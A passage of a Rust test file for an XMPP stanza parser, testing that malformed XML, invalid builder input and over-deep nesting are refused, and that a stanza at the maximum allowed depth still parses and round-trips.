            Err(XmppError::Xml(XmlError::Truncated { .. } | XmlError::NoElement)) => {}
            other => panic!("{cut:?}: {other:?}"),
        }
    }
}

/// Mismatched end tags, a second element and trailing content.
#[test]
fn structure_faults_refused() {
    assert_eq!(
        xml("<message><body></message></body>"),
        XmlError::MismatchedEndTag { offset: 15 }
    );
    assert_eq!(
        xml("<message/><message/>"),
        XmlError::SecondRoot { offset: 10 }
    );
    assert_eq!(
        xml("<message/>trailing"),
        XmlError::TrailingContent { offset: 10 }
    );
    assert_eq!(
        xml("<message/>&amp;"),
        XmlError::TrailingContent { offset: 10 }
    );
    assert!(parse(" \n<message/>\r\n\t ").is_ok());
}

/// Builders refuse to make what the parser would refuse: names and
/// characters that are not XML, and reserved namespaces.
#[test]
fn builders_never_emit_what_parsing_refuses() {
    assert!(matches!(
        MessageBuilder::new().id("\u{1}").build(),
        Err(BuildError::Invalid(XmppError::Xml(XmlError::InvalidChar {
            code: 1,
            ..
        })))
    ));
    assert!(matches!(
        MessageBuilder::new()
            .payload(Element::bare("not a name", "urn:x"))
            .build(),
        Err(BuildError::Invalid(XmppError::Xml(
            XmlError::InvalidName { .. }
        )))
    ));
    assert!(matches!(
        MessageBuilder::new().to("").build(),
        Err(BuildError::Invalid(XmppError::Invalid {
            fault: StanzaFault::EmptyAddress { .. },
            ..
        }))
    ));
    let deep = (0..40).fold(Element::bare("leaf", "urn:x"), |inner, _| {
        let mut e = Element::bare("wrap", "urn:x");
        e.append_child(inner);
        e
    });
    assert!(matches!(
        MessageBuilder::new().payload(deep).build(),
        Err(BuildError::Invalid(XmppError::Xml(
            XmlError::TooDeep { .. }
        )))
    ));
}

/// A stanza as deep as the depth ceiling allows can be read, written,
/// cloned, compared and dropped on a test thread's stack: the element
/// type does those recursively, which is why the ceiling exists.
#[test]
fn deepest_allowed_stanza_is_usable() {
    let depth = 1024;
    let input = format!(
        "<message>{}{}</message>",
        "<a xmlns='urn:a'>".repeat(depth - 1),
        "</a>".repeat(depth - 1)
    );
    let cfg = StanzaConfig {
        limits: ParseLimits {
            max_xml_depth: usize::MAX,
            max_xml_elements: usize::MAX,
            ..ParseLimits::DEFAULT
        },
        ..StanzaConfig::default()
    };
    let s = Stanza::parse(input.as_bytes(), &cfg).unwrap();
    let copy = s.clone();
    assert_eq!(copy, s);
    let again = Stanza::parse(&s.to_bytes(), &cfg).unwrap();
    assert_eq!(again, s);
    drop((s, copy, again));
}
